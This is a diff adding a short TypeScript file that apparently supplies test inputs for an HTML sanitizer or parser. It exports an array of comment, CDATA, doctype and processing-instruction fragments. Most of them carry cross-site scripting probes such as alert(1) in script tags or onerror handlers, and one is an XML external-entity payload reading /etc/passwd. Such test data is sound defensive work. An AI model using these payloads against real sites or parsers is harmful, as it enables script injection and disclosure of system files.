@@ -1,0 +1,23 @@
+/** Comments, declarations and sections, whole and in halves. */
+export const comments: readonly string[] = [
+  '<!--',
+  '-->',
+  '--!>',
+  '<!-->',
+  '<!--->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
+  '<!-- a --><script>alert(1)</script><!-- b -->',
+  '--><script>alert(1)</script><!--',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  ']]><script>alert(1)</script>',
+  '<?xml version="1.0"?><script>alert(1)</script>',
+  '<?php echo 1 ?>',
+  '<?import namespace="t" implementation="#default#time2">',
+  '<!doctype html><script>alert(1)</script>',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
+  '<!ELEMENT a ANY>',
+  '</ onclick=alert(1)>',
+  '<//><img src=x onerror=alert(1)>',
+]
